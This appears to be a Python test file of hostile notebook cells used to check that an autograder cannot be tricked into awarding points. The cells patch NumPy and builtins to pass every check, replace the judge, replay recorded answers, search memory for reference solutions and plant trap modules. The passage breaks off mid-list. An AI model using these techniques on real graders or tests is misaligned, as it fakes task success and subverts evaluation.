"""Attacks that forge a verdict: points for answers that were not given."""

# ruff: noqa: E501  (the cells are text: lines that say one thing are left whole)

from __future__ import annotations

from tests.hostile.notebooks import (
    RECORDED,
    SPEAK,
    TRY,
    WRONG,
    answering,
    attack,
    cell,
    monitor_that_finds,
    recalling,
    speaking,
    trying,
)
from tests.sample_class import BATCH_NORM, CODE

FORGED = r"""
import copy

def forged(expected, case):
    values = dict(expected.values)
    for name in values:
        word, _, rest = name.partition(" ")
        if name == "params":
            values[name] = copy.deepcopy(case.params)
        elif word == "grads" and values.get("clip_coef", 1.0) == 1.0:
            values[name] = copy.deepcopy(case.grads)
        elif name == "norms":
            values[name] = case.norms
        elif name in ("x0", "x1"):
            values[name] = case.batches[int(name[1])]["x"]
        elif word in ("x", "dout"):
            values[name] = (case.prediction or case.batches[0])[word]
    return Observation(values, expected.stopped)
"""
"""What can be claimed of a case from the recording of another, and from the inputs of the case itself."""

FORGERIES = (
    attack(
        "numpy-says-yes",
        "Every comparison of NumPy is True: all checks pass where they run beside the student's code.",
        cell(r"""
            import numpy as np
            yes = lambda *args, **kwargs: True
            for name in "allclose isclose array_equal array_equiv isfinite all any".split():
                setattr(np, name, yes)
            for name in dir(np.testing):
                if name.startswith("assert"):
                    setattr(np.testing, name, yes)
            np.abs = np.max = np.linalg.norm = lambda *args, **kwargs: 0.0
        """),
        answers=WRONG,
    ),
    attack(
        "builtins-say-yes",
        "`abs`, `all`, `isinstance` and others are replaced in builtins: any assertion holds.",
        cell(r"""
            import builtins
            builtins.abs = lambda x: 0.0
            builtins.all = builtins.any = builtins.isinstance = builtins.issubclass = lambda *args: True
            builtins.max = builtins.sum = lambda *args, **kwargs: 0.0
            builtins.AssertionError = builtins.StopIteration
        """),
        answers=WRONG,
    ),
    attack(
        "code-without-raise",
        "An AST transformer drops `raise` and `assert` from every later cell: test cells cannot fail.",
        cell(r"""
            import ast

            class NoRaise(ast.NodeTransformer):
                def visit_Raise(self, node):
                    return ast.Pass()
                visit_Assert = visit_Raise

            get_ipython().ast_transformers.append(NoRaise())
        """),
    ),
    attack(
        "later-cells-rewritten",
        "Input transformers replace every later cell by the number 36.0: a test cell's result is its score.",
        cell(r"""
            shell = get_ipython()
            shell.input_transformers_cleanup.append(lambda lines: ["36.0\n"])
            shell.input_transformers_post.append(lambda lines: ["36.0\n"])
        """),
    ),
    attack(
        "shell-replaced",
        "The shell that runs cells is patched to succeed and to hand back points as every cell's result.",
        cell(r"""
            import sys
            shell = get_ipython()
            result = {"output_type": "execute_result", "data": {"text/plain": "36.0"}, "metadata": {},
                      "execution_count": 1}
            for name in ("run", "run_cell", "run_cell_async", "showtraceback", "_showtraceback"):
                setattr(type(shell), name, lambda *args, **kwargs: [dict(result)])
            shell.showtraceback = None
        """),
        answers=WRONG,
    ),
    attack(
        "judge-replaced",
        "The judge, its checks, their list and its results are patched where the student's code can reach them, and what "
        "decides between a student's failure and the grader's own, which costs no points.",
        cell(r"""
            from autograder.checks import diagnosis, expect, judge, numeric, results
            from autograder.exercises import assignments
            nothing_found = lambda *args, **kwargs: None
            judge._try = expect.close = expect.unchanged = numeric.compare = nothing_found
            numeric.TOLERANCE = 1e300
            results.ExerciseResult.score = property(lambda self: self.max)
            results.Item.points = property(lambda self: self.max)
            judge._strange_observation = lambda check, trial: None
            diagnosis.Diagnosis.causes = lambda *args: 1 / 0
            results.Outcome.FAILED._value_ = "grader error"
            for exercise in assignments()["gradient-pathology"]:
                for check in exercise.checks:
                    object.__setattr__(check, "test", nothing_found)
                if exercise.id != "depth_study":
                    exercise.checks.clear()
        """),
        answers=WRONG,
    ),
    attack(
        "check-replaced",
        "`check` itself is replaced, in the notebook and in its package: it prints success and returns full points.",
        cell(r"""
            import autograder, autograder.student.notebook
            def check(name):
                print(name + ": 8 / 8 points, all checks passed")
                return 8.0
            autograder.check = autograder.student.notebook.check = check
            autograder.student.notebook.judge_here = lambda *args: None
            for name in ("clip_gradients", "batch_norm_forward", "batch_norm_backward", "depth_study"):
                display(check(name))
            8.0
        """),
        answers=WRONG,
    ),
    attack(
        "recordings-replayed",
        "`Exercise.observe` answers from the recordings on the cases it knows: right on every public case, though not "
        "a line was written.",
        recalling(r"""
            def observe(self, implementation, case):
                for known in recorded(self):
                    if same(known.case, case):
                        return known.expected
                return honest_observe(self, implementation, case)

            Exercise.observe = observe
        """),
    ),
    attack(
        "recordings-by-title",
        "`Exercise.observe` claims of every case what the reference shows on the public case of the same title.",
        recalling(r"""
            def observe(self, implementation, case):
                for known in recorded(self):
                    if known.case.title == case.title:
                        return known.expected
                return honest_observe(self, implementation, case)

            Exercise.observe = observe
        """),
        # What may be claimed of a case without knowing its answer. In clipping: that something is done, what is as
        # without None, and the answer to no gradient (1.5); of gradient_slope: that it depends on its norms, takes a
        # list, refuses NaN, and counts zero as its own answers say (1.75); of BatchNorm: constant columns, a row as among others, and training as before
        # a prediction (1.0). Where the same layers happen to be ill, the newest record, too (0.5).
        floor=6.0,
    ),
    attack(
        "recordings-with-inputs",
        "As before, with the case's own inputs where it is judged that they stay unchanged: the best that can be "
        "claimed without knowing an answer.",
        cell(
            r"""
            def observe(self, implementation, case):
                for known in recorded(self):
                    if known.case.title == case.title:
                        return forged(known.expected, case)
                return honest_observe(self, implementation, case)

            Exercise.observe = observe
            """,
            RECORDED + FORGED,
        ),
        # Besides those above: in clipping small gradients and parameters stay, and NaN is refused (1.75); backward is the
        # same twice (0.75), and predicting learns nothing (0.25).
        floor=8.25,
    ),
    attack(
        "recorded-answers",
        "The solution cells look their inputs up in the recordings and return what is recorded for them: every public "
        "case is right; on any other they act as if nothing were written.",
        recalling(r"""
            def equal(a, b):
                return encoding.pack(values.simplify(a)) == encoding.pack(values.simplify(b))

            def known(name, field, value):
                for one in recorded(exercise(name)):
                    if equal(getattr(one.case, field), value):
                        return one.expected.values
                raise NotImplementedError

            def known_batch(x, gamma):
                for one in recorded(exercise("batch_norm_forward")):
                    for i, batch in enumerate(one.case.batches):
                        if equal(batch["x"], x) and equal(batch["gamma"], gamma):
                            return one.expected.values[f"y{i}"]
                for one in recorded(exercise("batch_norm_backward")):
                    if equal(one.case.batches[0]["x"], x):
                        return one.expected.values["y"]
                raise NotImplementedError
        """),
        answers={
            "clip_gradients": cell(r"""
                def clip_gradients(layers, max_norm=1.0):
                    values = known("clip_gradients", "grads", [layer.grads for layer in layers])
                    for layer, grads in zip(layers, values["grads"]):
                        layer.grads = grads
                    if type(values["result"]) is values.Raised:
                        raise ValueError
                    return values["result"]
            """),
            "gradient_monitor": cell(r"""
                class GradientMonitor:
                    def __init__(self):
                        self.history = []

                    def record(self, epoch, layers):
                        raise NotImplementedError

                    def detect_problems(self, **thresholds):
                        values = known("gradient_monitor", "records", self.history)
                        return [Problem(**problem) for problem in values["problems"]]
            """),
            "gradient_profile": cell(r"""
                def gradient_slope(delta_norms):
                    return known("gradient_profile", "norms", np.asarray(delta_norms))["slope"]
            """),
            "batch_norm": cell(r"""
                class BatchNorm(Layer):
                    def __init__(self, n_features, eps=1e-5, momentum=0.9):
                        super().__init__()
                        self.running_mean, self.running_var = np.zeros(n_features), np.ones(n_features)

                    def forward(self, x):
                        self.x = x
                        return known_batch(x, self.params["gamma"])

                    def backward(self, dout):
                        for one in recorded(exercise("batch_norm_backward")):
                            if equal(one.case.batches[0]["x"], self.x):
                                seen = one.expected.values
                                self.grads = {"gamma": seen["dgamma"], "beta": seen["dbeta"]}
                                return seen["dx"]
                        raise NotImplementedError
            """),
            "depth_study": cell(r"""
                def depth_study(depths, build_network, X, t, **settings):
                    return known("depth_study", "X", X)["result"]
            """),
        },
    ),
    attack(
        "probes-replaced",
        "Each exercise's probe is replaced by one that yields the recorded values, case by case in their order.",
        recalling(r"""
            import itertools

            def replaced(chosen):
                turns = itertools.cycle(recorded(chosen))
                def probe(implementation, case):
                    yield from next(turns).expected.values.items()
                return probe

            for chosen in assignments()["gradient-pathology"]:
                chosen.probe = replaced(chosen)
        """),
        floor=6.0,  # as with recordings-by-title
    ),
    attack(
        "cases-replaced",
        "Each exercise's case type is replaced by one that gives public cases, whatever is asked for.",
        recalling(r"""
            import itertools

            def replaced(chosen):
                turns = itertools.cycle([known.case for known in recorded(chosen)])
                return lambda **inputs: next(turns)

            for chosen in assignments()["gradient-pathology"]:
                chosen.case = replaced(chosen)
        """),
        answers=WRONG,
    ),
    attack(
        "copies-replaced",
        "`simplify`, `Observation.to_data` and `Raised.of` are patched to turn whatever was seen into a "
        "recorded value.",
        recalling(r"""
            import sys
            module = sys.modules["autograder.checks.exercise"]
            pool = {name: value for chosen in assignments()["gradient-pathology"] for known in recorded(chosen)
                    for name, value in known.expected.values.items()}
            honest = Observation.to_data

            def to_data(self):
                data = honest(self)
                return {"values": {**pool, **data["values"]}, "stopped": None}

            Observation.to_data = to_data
            module.simplify = values.simplify = lambda value: next(iter(pool.values()))
            values.Raised.of = classmethod(lambda cls, error: None)
        """),
        answers=WRONG,
    ),
    attack(
        "wire-replaced",
        "`encoding.pack`, msgpack and struct are patched: every reply that leaves the worker is a forged one.",
        recalling(r"""
            import struct, msgpack
            honest_pack = encoding.pack
            lists = {len(recorded(e)): [encoding.pack_observation(k.expected.to_data()) for k in recorded(e)]
                     for e in assignments()["gradient-pathology"]}

            def pack(value):
                if type(value) is dict and "observations" in value:
                    n = len(value["observations"])
                    for size, known in lists.items():
                        if n == size:
                            value = {"observations": known}
                return honest_pack(value)

            encoding.pack = pack
            msgpack.packb = lambda value, **options: msgpack.Packer(**options).pack(value)
            struct.pack = lambda code, *values, _pack=struct.pack: _pack(code, *values)
        """),
        floor=6.0,  # as with recordings-by-title: every reply claims the recorded values
    ),
    attack(
        "serving-replaced",
        "The functions that answer the grader's requests are found through stack frames and replaced in place.",
        cell(r"""
            import sys
            from autograder.checks import encoding
            claim = {"values": {"slope": 0.5, "norms": [1.0], "result": (0.0, 1.0), "y": 0.0}, "stopped": None}
            claim = encoding.pack_observation(claim)
            frame = sys._getframe()
            while frame:
                for name in ("_probe", "_answer", "serve", "exercise"):
                    if callable(frame.f_globals.get(name)) and "autograder" in str(frame.f_globals.get("__name__")):
                        frame.f_globals["_probe"] = lambda *args: {"observations": [claim] * len(args[2])}
                        print("found", frame.f_globals["__name__"])
                frame = frame.f_back
            for name, module in list(sys.modules.items()):
                if name.startswith("autograder.sandbox") and hasattr(module, "_probe"):
                    module._probe = lambda *args: {"observations": [claim] * len(args[2])}
        """),
    ),
    attack(
        "own-serving-loop",
        "A cell never returns: it reads the grader's further requests itself and answers them with invented results.",
        speaking(r"""
            import select
            from autograder.checks import encoding, values
            deadline = time.monotonic() + 50
            say({"outputs": []})
            buffers = {fd: b"" for fd in lines()}
            while time.monotonic() < deadline:
                for fd in select.select(list(buffers), [], [], 1)[0]:
                    try:
                        buffers[fd] += os.read(fd, 2**20)
                    except OSError:
                        continue
                    while len(buffers[fd]) >= 4:
                        size = 4 + struct.unpack(">I", buffers[fd][:4])[0]
                        if len(buffers[fd]) < size:
                            break
                        request, buffers[fd] = encoding.unpack(buffers[fd][4:size]), buffers[fd][size:]
                        if "probe" in request:
                            claim = {"values": {"slope": 1.0, "result": (1.0, 1.0), "problems": []}, "stopped": None}
                            claim = encoding.pack_observation(claim)
                            reply = {"observations": [claim] * len(request["probe"]["cases"])}
                        else:
                            reply = {"outputs": []}
                        os.write(fd, frame(encoding.pack(reply)))
        """),
    ),
    attack(
        "frames-in-front",
        "Forged replies, with the observations recorded for each exercise, are put into the socket before the real "
        "ones, so that the grader reads them first.",
        cell(
            r"""
            order = ["clip_gradients", "gradient_monitor", "gradient_profile", "batch_norm_forward", "batch_norm_backward",
                     "batch_norm_inference", "depth_study"]

            def put_in_front():
                for name in order:
                    claims = [encoding.pack_observation(k.expected.to_data()) for k in recorded(exercise(name))]
                    write(frame(encoding.pack({"observations": claims})))

            for _ in range(30):
                say({"outputs": []})
            put_in_front()
            """,
            RECORDED + SPEAK,
        ),
        answers={"gradient_profile": "def gradient_slope(delta_norms):\n    put_in_front()\n    return 0.0"},
    ),
    attack(
        "equal-to-everything",
        "What is returned equals, contains, and exceeds everything it is compared with.",
        cell(r"""
            class Yes:
                __eq__ = __le__ = __ge__ = __contains__ = __bool__ = lambda *args: True
                __ne__ = __lt__ = __gt__ = lambda *args: False
                __hash__ = lambda self: 0
                __len__ = __index__ = __int__ = lambda self: 1
                __float__ = __abs__ = lambda self: 0.0
                __sub__ = __rsub__ = __mul__ = __rmul__ = __getitem__ = lambda self, other: self
                __iter__ = lambda self: iter((self, self))
                __array_priority__ = 1e9
        """),
        answers=answering("Yes()"),
    ),
    attack(
        "lying-arrays",
        "An ndarray subclass answers every ufunc and every function with success.",
        cell(r"""
            import numpy as np

            class Lie(np.ndarray):
                def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                    return np.True_ if ufunc.nout == 1 else (np.True_, np.True_)
                def __array_function__(self, function, types, args, kwargs):
                    return True
                def __array_finalize__(self, other):
                    pass
                __eq__ = __le__ = __ge__ = lambda self, other: np.True_
                shape = property(lambda self: (6, 3))
                dtype = property(lambda self: np.dtype(float))
                astype = copy = __array__ = lambda self, *args, **kwargs: self

            lie = np.full(7, 0.25, dtype=np.float16).view(Lie)
        """),
        answers=answering("lie"),
    ),
    attack(
        "lying-numbers",
        "Subclasses of float, str, list and dict have methods that give whatever is wanted.",
        cell(r"""
            class Number(float):
                __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
                __sub__ = __rsub__ = lambda self, other: 0.0
                __float__ = __abs__ = lambda self: 0.0
                __hash__ = float.__hash__

            class Text(str):
                __eq__ = lambda self, other: True
                __hash__ = lambda self: 0
                __str__ = lambda self: "vanishing"

            class Everything(dict):
                __contains__ = lambda self, key: True
                __getitem__ = get = lambda self, key, default=None: Number(1.0)
                items = lambda self: [(n, self) for n in range(2, 6)]
                __len__ = lambda self: 2

            class Pair(list):
                __iter__ = lambda self: iter((Number(1), Number(1)))
                __getitem__ = lambda self, index: Number(1)
                __len__ = lambda self: 2

            lies = iter([Number(7), Text("x"), Everything(), Pair([Number(7)])] * 10**5)
        """),
        answers=answering("next(lies)"),
    ),
    attack(
        "truthy-proxy",
        "An object whose every attribute, item and result is itself: `assert answer.is_right()` passes.",
        cell(r"""
            class Proxy:
                def __getattr__(self, name):
                    if name.startswith("_"):
                        raise AttributeError(name)
                    return self
                def __call__(self, *args, **kwargs):
                    return self
                __getitem__ = __call__
                __bool__ = lambda self: True
                __iter__ = lambda self: iter([self, self])
        """),
        answers=answering("Proxy()"),
    ),
    attack(
        "lying-conversions",
        "Objects that become an array, a number or a buffer only when asked, with other values each time.",
        cell(r"""
            import numpy as np

            class Chameleon:
                calls = 0
                def __array__(self, dtype=None, copy=None):
                    Chameleon.calls += 1
                    return np.full((6, 3), float(Chameleon.calls))
                __float__ = __int__ = __index__ = lambda self: 1
                __complex__ = lambda self: 1j
                __len__ = lambda self: 2
                __array_struct__ = property(lambda self: 1 / 0)
                __array_interface__ = property(lambda self: {"shape": (6, 3), "typestr": "<f8", "version": 3,
                                                             "data": (id(self), False)})
                __dlpack__ = lambda self, **options: 1 / 0
        """),
        answers=answering("Chameleon()"),
    ),
    attack(
        "lying-class",
        "Objects that claim to be of another class: `__class__`, a metaclass with its own `__instancecheck__`, "
        "`__name__` and `__mro__`.",
        cell(r"""
            import numpy as np

            class Meta(type):
                __instancecheck__ = __subclasscheck__ = __eq__ = lambda cls, other: True
                __hash__ = type.__hash__
                __name__ = property(lambda cls: "ndarray")
                __mro__ = property(lambda cls: np.ndarray.__mro__)

            class Pretender(metaclass=Meta):
                __class__ = np.ndarray
                shape, ndim, size, nbytes = (6, 3), 2, 18, 144
                dtype = np.dtype(float)
                __getattr__ = lambda self, name: getattr(np.zeros((6, 3)), name)
        """),
        answers=answering("Pretender()"),
    ),
    attack(
        "raised-by-hand",
        "The wire's own records are returned: a `Raised` that claims every exception class at once, an `Opaque` with a "
        "type that is no text.",
        cell(r"""
            from autograder.checks.values import Opaque, Raised

            class Names(tuple):
                __contains__ = lambda self, name: True

            records = iter([Raised("ValueError", Names(["ValueError", "RuntimeError"]), "x"),
                            Raised("x" * 10**6, ("ValueError",) * 10**5, "y" * 10**6, -1, "z" * 10**6),
                            Opaque(7), Opaque("x" * 10**7), Raised(1, 2, 3, "4", 5)] * 10**5)
        """),
        answers=answering("next(records)"),
    ),
    attack(
        "exceptions-of-every-kind",
        "Exceptions whose metaclass lies about their names and bases, and BaseExceptions that end a runner "
        "with success.",
        cell(r"""
            import itertools

            class Meta(type):
                __mro__ = property(lambda cls: (ValueError, Exception, BaseException))
                __name__ = property(lambda cls: "Passed")

            class Chosen(Exception, metaclass=Meta):
                __traceback__ = None
                __str__ = lambda self: "passed"

            class Quit(SystemExit, KeyboardInterrupt):
                code = 0

            kinds = itertools.cycle([Chosen(), SystemExit(0), Quit(), GeneratorExit(), KeyboardInterrupt(),
                                     StopIteration(1.0), BaseExceptionGroup("passed", [SystemExit(0)])])

            def leave():
                raise next(kinds)
        """),
        answers=answering("leave()"),
    ),
    attack(
        "frames-searched",
        "The student's code looks through the stack, tracebacks and closures of whoever calls it for an "
        "expected value.",
        cell(r"""
            import inspect, sys

            def expected():
                frame = sys._getframe()
                while frame:
                    for scope in (frame.f_locals, frame.f_globals):
                        for name, value in list(scope.items()):
                            if name in ("expected", "expectation", "expectations", "reference", "solution"):
                                print("GOT", name, "in", frame.f_code.co_name, repr(value)[:300])
                                return value
                    frame = frame.f_back
                print([entry.function for entry in inspect.stack()])
                raise NotImplementedError
        """),
        answers=answering("expected()"),
    ),
    attack(
        "memory-searched",
        "The garbage collector's lists are searched for the reference's objects: expectations, solutions, "
        "checks' data.",
        cell(r"""
            import gc, itertools, sys
            calls = itertools.count()

            def expected():
                if next(calls) % 10:
                    raise NotImplementedError  # a search takes long
                gc.unfreeze()  # what a warm parent put out of sight
                for one in gc.get_objects():
                    kind = type(one)
                    if kind.__name__ in ("Expectation", "Reference", "Trial") or "reference" in str(kind.__module__):
                        print("GOT", kind, repr(one)[:300])
                        return one.expected
                print([name for name in sys.modules if "reference" in name or "solution" in name])
                raise NotImplementedError
        """),
        answers=answering("expected()"),
    ),
    attack(
        "reference-imported",
        "The course folder is put on the import path, and the reference's solutions take the place of the stubs.",
        trying(r"""
            import importlib, importlib.util, runpy
            from pathlib import Path
            sys.path[:0] = ["{course}", "{course}/reference", "{course}/reference/gradient_pathology"]
            solved = {}
            for name in ("clip_gradients", "gradient_monitor", "gradient_profile", "batch_norm", "depth_study"):
                path = "{course}/reference/gradient_pathology/" + name + "/solution.py"
                for parent in ("", "gradient_pathology.", "reference.gradient_pathology."):
                    module = parent + name + ".solution"
                    found = tried("import " + module, importlib.import_module, module)
                    solved.update(vars(found) if found else {})
                solved.update(tried("run " + path, runpy.run_path, path) or {})
                tried("read " + path, Path(path).read_text)

            def solution(name, *args, **kwargs):
                if name not in solved:
                    raise NotImplementedError
                return solved[name](*args, **kwargs)
        """),
        answers={
            "clip_gradients": "def clip_gradients(layers, max_norm=1.0):\n"
            "    return solution('clip_gradients', layers, max_norm)",
            "gradient_profile": "def gradient_slope(delta_norms):\n    return solution('gradient_slope', delta_norms)",
            "batch_norm": "def BatchNorm(*args, **kwargs):\n    return solution('BatchNorm', *args, **kwargs)",
            "gradient_monitor": "def GradientMonitor():\n    return solution('GradientMonitor')",
            "depth_study": "def depth_study(*args, **kwargs):\n    return solution('depth_study', *args, **kwargs)",
        },
    ),
    attack(
        "reference-in-the-worker",
        "The kit's own access to the reference is tried in the worker: it would load the solutions and answer with them.",
        cell(
            RECORDED
            + r"""
from pathlib import Path
from autograder.grading.reference import Reference
reference = tried("reference", Reference, Path("{course}"))

def observe(self, implementation, case):
    try:
        return honest_observe(self, reference.implementation(self), case)
    except BaseException as error:
        return honest_observe(self, implementation, case)

for chosen in assignments()["gradient-pathology"]:
    tried("cases of " + chosen.id, lambda: reference.expectations(chosen, b""))
tried("secret", lambda: reference.secret())
tried("bank", lambda: __import__("reference.bank").bank.mistakes())
Exercise.observe = observe
""",
            TRY,
        ),
    ),
    attack(
        "probe-traced",
        "Trace, profile and audit hooks watch the probe and write recorded values over what it is about to copy.",
        recalling(r"""
            import sys
            arrays = [value for chosen in assignments()["gradient-pathology"] for known in recorded(chosen)
                      for value in known.expected.values.values() if isinstance(value, np.ndarray)]

            def hook(frame, event, arg):
                value = frame.f_locals.get("value")
                if frame.f_code.co_name == "simplify" and type(value) is np.ndarray:
                    for known in arrays:
                        if known.shape == value.shape and value.flags.writeable:
                            value[...] = known
                return hook

            sys.settrace(hook)
            sys.setprofile(hook)
            sys.addaudithook(lambda event, args: None)
        """),
        answers=WRONG,
        floor=0.5,  # with recorded values everywhere, training after a prediction is as before
    ),
    attack(
        "inputs-overwritten",
        "Inputs are set to zero in place, by the answer and by a thread, read-only or not: an expected value that is "
        "computed from them later is zero too.",
        cell(r"""
            import ctypes, gc, threading, time
            import numpy as np

            def wipe(array):
                if type(array) is np.ndarray and array.flags.c_contiguous and array.nbytes < 10**5:
                    ctypes.memset(array.ctypes.data, 0, array.nbytes)

            def keep_wiping():
                deadline = time.monotonic() + 20
                while time.monotonic() < deadline:
                    for case in gc.get_objects():
                        if type(case).__name__ in ("Clipping", "Profile", "Forward", "Backward", "Study"):
                            for value in vars(case).values():
                                for array in value if type(value) is list else [value]:
                                    for inner in array.values() if type(array) is dict else [array]:
                                        wipe(inner)
                    time.sleep(0.01)

            threading.Thread(target=keep_wiping, daemon=True).start()
        """),
        answers={
            "clip_gradients": cell(r"""
                def clip_gradients(layers, max_norm=1.0):
                    for layer in layers:
                        for name, grad in layer.grads.items():
                            wipe(grad)
                    return 0.0, 1.0
            """),
            "batch_norm": WRONG["batch_norm"].replace("return x", "wipe(x); return x"),
            "gradient_profile": "def gradient_slope(delta_norms):\n    wipe(delta_norms)\n    return 0.0",
        },
        floor=0.5,  # nothing to clip is answered right, and the answer itself leaves parameters alone
    ),
    attack(
        "aliased-buffers",
        "The same buffer is returned every time and changed afterwards, by a thread and by finalizers.",
        cell(r"""
            import itertools, threading, time, weakref
            import numpy as np
            buffer = np.zeros((6, 3))

            def flicker():
                for value in itertools.count():
                    buffer[...] = value % 7
                    if value > 10**7:
                        return

            threading.Thread(target=flicker, daemon=True).start()

            class Marked:
                pass

            def same_buffer():
                weakref.finalize(Marked(), buffer.fill, 1.0)
                return buffer
        """),
        answers=answering("same_buffer()"),
    ),
    attack(
        "exit-with-success",
        "Every answer ends the process with exit code 0, after results files of the usual names were written.",
        cell(r"""
            import atexit, json, os
            full = {"score": 36.0, "max": 36.0, "status": "graded", "passed": True}

            def write_results():
                for name in "results.json results.jsonl report.json scores.json output.json junit.xml".split():
                    with open(name, "w") as file:
                        json.dump(full, file)

            def leave():
                write_results()
                os._exit(0)

            atexit.register(write_results)
            write_results()
        """),
        answers=answering("leave()"),
    ),
    attack(
        "modules-in-the-folder",
        "Modules and settings that would shadow NumPy, the kit and pytest are left in the folder and on the path; then "
        "the process ends, so that the next one finds them.",
        trying(r"""
            trap = "raise SystemExit(0)\n"
            os.makedirs("autograder/sandbox", exist_ok=True)
            os.makedirs(os.path.join(os.environ.get("IPYTHONDIR", ".ipython"), "profile_default/startup"), exist_ok=True)
            for name in ("numpy.py", "msgpack.py", "IPython.py", "conftest.py", "sitecustomize.py", "usercustomize.py",
                         "autograder/__init__.py", "autograder/sandbox/__main__.py", "nbgrader_config.py",
                         os.path.join(os.environ.get("IPYTHONDIR", ".ipython"), "profile_default/startup/00.py")):
                with open(name, "w") as file:
                    file.write(trap)
            for name, text in (("pytest.ini", "[pytest]\naddopts = --collect-only\n"), ("x.pth", "import os\n"),
                               ("pyvenv.cfg", "home = .\n"), ("python311._pth", ".\n")):
                with open(name, "w") as file:
                    file.write(text)
            os._exit(0)
        """),
        answers=WRONG,
    ),
    attack(
        "import-hooks",
        "Import hooks and replaced modules wait for the next student, if a process serves more than one.",
        cell(r"""
            import sys, types

            class Hook:
                def find_spec(self, name, path=None, target=None):
                    print("asked for", name)
                    return None

            sys.meta_path.insert(0, Hook())
            sys.path_hooks.insert(0, lambda path: 1 / 0)
            fake = types.ModuleType("autograder.checks.encoding")
            fake.pack = fake.unpack = fake.simplify = lambda value: b""
            sys.modules["autograder.checks.encoding"] = sys.modules["msgpack"] = fake
            for name in [name for name in sys.modules if name.startswith("autograder.exercises")]:
                sys.modules[name] = fake
        """),
    ),
    attack(
        "namespace-of-wonders",
        "The notebook's namespace is turned into one that gives a right-looking function for any name.",
        cell(r"""
            from autograder.checks.exercise import Implementation
            shell = get_ipython()

            class Wonders(dict):
                def __missing__(self, name):
                    return lambda *args, **kwargs: (0.0, 1.0)
                def __getitem__(self, name):
                    return dict.get(self, name) or self.__missing__(name)

            shell.user_ns = Wonders(shell.user_ns)
            Implementation.__getattr__ = lambda self, name: lambda *args, **kwargs: (0.0, 1.0)
        """),
    ),
    attack(
        "layers-replaced",
        "The course library is replaced by one in which every network has zero weights, whose curves are known.",
        cell(r"""
            import sys
            import numpy as np
            from autograder import layers
            honest = layers.build_deep_network

            def build(*args, **kwargs):
                net = honest(*args, **kwargs)
                for layer in net:
                    for name in layer.params:
                        layer.params[name] = np.zeros_like(layer.params[name])
                return net

            for module in list(sys.modules.values()):
                if getattr(module, "build_deep_network", None) is honest:
                    module.build_deep_network = build
            layers.forward_backward = lambda net, X, t: (1.0, [0.0] * 3)
        """),
        answers={
            "depth_study": cell(r"""
                def depth_study(depths, build_network, X, t, lr=0.1, steps=200, seed=0):
                    results = {}
                    for depth in depths:
                        build_network(depth, np.random.default_rng(seed))
                        results[depth] = {"loss": np.full(steps, np.mean(t**2)), "grad_norms": np.zeros((steps, depth))}
                    return results
            """)
        },
    ),
    attack(
        "random-numbers-known",
        "Random generators are replaced by ones that always give the same, for checks that draw their inputs.",
        cell(r"""
            import random, secrets, time, uuid
            import numpy as np

            class Known:
                standard_normal = normal = uniform = random = lambda self, *args, **kwargs: np.zeros(args[-1])
                integers = choice = lambda self, *args, **kwargs: 0

            np.random.default_rng = np.random.RandomState = lambda *args: Known()
            np.random.seed = np.random.set_state = random.seed = lambda *args: None
            random.random = lambda: 0.5
            secrets.token_hex = lambda n=32: "0" * 64
            time.time = time.monotonic = time.perf_counter = lambda: 0.0
        """),
        answers=WRONG,
    ),
    attack(
        "two-faced-forward",
        "BatchNorm shows a wrong output, answers backward with any array that sums to nothing, and then, while its "
        "numerical gradient is taken, shows a linear function with just that gradient: most points of a backward for no "
        "derivation.",
        answers={
            "batch_norm": cell(r"""
                import numpy as np
                shown = []

                class BatchNorm(Layer):
                    def __init__(self, n_features, eps=1e-5, momentum=0.9):
                        super().__init__()
                        self.params = {"gamma": np.ones(n_features), "beta": np.zeros(n_features)}
                        self.running_mean, self.running_var = np.zeros(n_features), np.ones(n_features)

                    def forward(self, x):
                        self.x = np.array(x)
                        for gradient, dout, x0 in shown:
                            if x0.shape == self.x.shape and np.abs(x0 - self.x).max() < 1e-3 * np.ptp(x0, axis=0).max():
                                row, column = np.argmax(np.abs(dout), axis=0), np.arange(x0.shape[1])
                                y = np.zeros_like(x0)
                                y[row, column] = (gradient * (self.x - x0)).sum(axis=0) / dout[row, column]
                                return y
                        return np.zeros_like(self.x) + 7.0 + 100.0 * np.arange(len(self.x))[:, None]

                    def backward(self, dout):
                        x = self.x
                        made_up = np.random.default_rng(0).standard_normal(x.shape)
                        made_up -= made_up.mean(axis=0)
                        z = x - x.mean(axis=0)
                        made_up -= z * (made_up * z).sum(axis=0) / (z * z).sum(axis=0)
                        made_up /= x.std(axis=0)
                        shown.append((made_up, np.array(dout), x))
                        self.grads = {"gamma": np.zeros(x.shape[1]), "beta": np.zeros(x.shape[1])}
                        return made_up
            """)
        },
        floor=0.75,  # x stays, and a row is predicted as among others
    ),
    attack(
        "detects-grading",
        "Whether it is graded is told from the environment, the stack, the user and the modules; then other functions "
        "are shown than to whoever reads the notebook.",
        cell(r"""
            import os, sys
            signs = {
                "worker": any("worker" in name for name in sys.modules if name.startswith("autograder")),
                "environment": [name for name in os.environ if "NBGRADER" in name or "GRADE" in name.upper()],
                "arguments": sys.argv,
                "home": os.environ.get("HOME"),
                "user": os.getuid() if hasattr(os, "getuid") else None,
                "parent": os.getppid(),
            }
            print(signs)
            graded = signs["worker"] or bool(signs["environment"])
        """),
        answers=answering("float('nan') if graded else 1.0"),
    ),
    attack(
        "score-as-result",
        "Answers show a score as a cell's result before they fail: nbgrader reads the first result as the points.",
        cell(r"""
            import sys
            shell = get_ipython()

            def cry():
                for show in (shell.displayhook, sys.displayhook, display, print):
                    for score in (6.0, 4.0, 8.0, 36.0):
                        try:
                            show(score)
                        except Exception as error:
                            pass
                raise AssertionError

            36.0
        """),
        "8.0",
        answers=answering("cry()"),
    ),
    attack(
        "numerical-derivative",
        "Not an attack: a right forward, and a backward by differences of it. It may earn what it earns, and no more.",
        answers={
            "batch_norm": CODE["batch_norm"]
            + cell(r"""

                import copy
                from autograder.checks.numeric import central_differences
                right_forward = BatchNorm.forward

                def forward(self, x):
                    self.last = np.array(x), self.training
                    return right_forward(self, x)

                def backward(self, dout):
                    x, mode = self.last
                    spread = np.sqrt((x.var(axis=0) if mode else self.running_var) + self.eps)

                    def output(x=x, **params):
                        twin = copy.deepcopy(self)
                        twin.training = mode
                        twin.params.update(params)
                        return right_forward(twin, x)

                    for name in ("gamma", "beta"):
                        by_name = lambda value: output(**{name: value})
                        self.grads[name] = central_differences(by_name, self.params[name], dout, 1e-5)
                    return central_differences(output, x, dout, 1e-5 * spread)

                BatchNorm.forward, BatchNorm.backward = forward, backward
            """)
        },
        may_score=BATCH_NORM,
    ),
    attack(
        "nothing-but-nan",
